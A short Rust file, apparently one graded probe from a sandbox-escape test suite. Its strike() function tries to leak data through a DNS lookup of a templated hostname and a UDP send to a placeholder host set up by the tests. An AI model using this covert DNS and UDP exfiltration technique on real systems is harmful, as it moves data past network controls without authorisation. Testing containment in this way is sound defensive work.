//! tries: to ask for the address of a name
//! undefended: the question itself carries the answer away
//! down: box
//! seen: graded 0

fn strike() {
    use std::net::ToSocketAddrs as _;
    if let Ok(mut found) = "forty-two.@name@.invalid:80".to_socket_addrs() {
        loot(&format!("{:?}", found.next()));
    }
    // What a resolver does, to the resolver that the tests have put up.
    if let Ok(socket) = std::net::UdpSocket::bind("127.0.0.1:0") {
        _ = socket.send_to(b"forty-two", "@udp@");
    }
}
